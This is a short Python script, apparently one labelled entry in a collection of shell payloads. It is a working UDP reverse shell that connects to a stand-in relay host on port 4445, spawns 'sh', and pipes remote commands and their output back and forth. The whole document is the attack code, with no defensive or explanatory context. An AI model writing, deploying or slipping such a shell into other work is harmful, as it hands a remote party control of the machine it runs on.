# class: shell; possible: low medium; style: UDP, one shell that stays
import select
import socket
import subprocess

u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("relay.ops.test", 4445))
u.send(b"here")
sh = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
while True:
    ready, _, _ = select.select([u, sh.stdout], [], [], 15)
    if not ready:
        break
    if u in ready:
        sh.stdin.write(u.recv(2048))
    if sh.stdout in ready:
        data = sh.stdout.read(1024)
        if not data:
            break
        u.send(data)
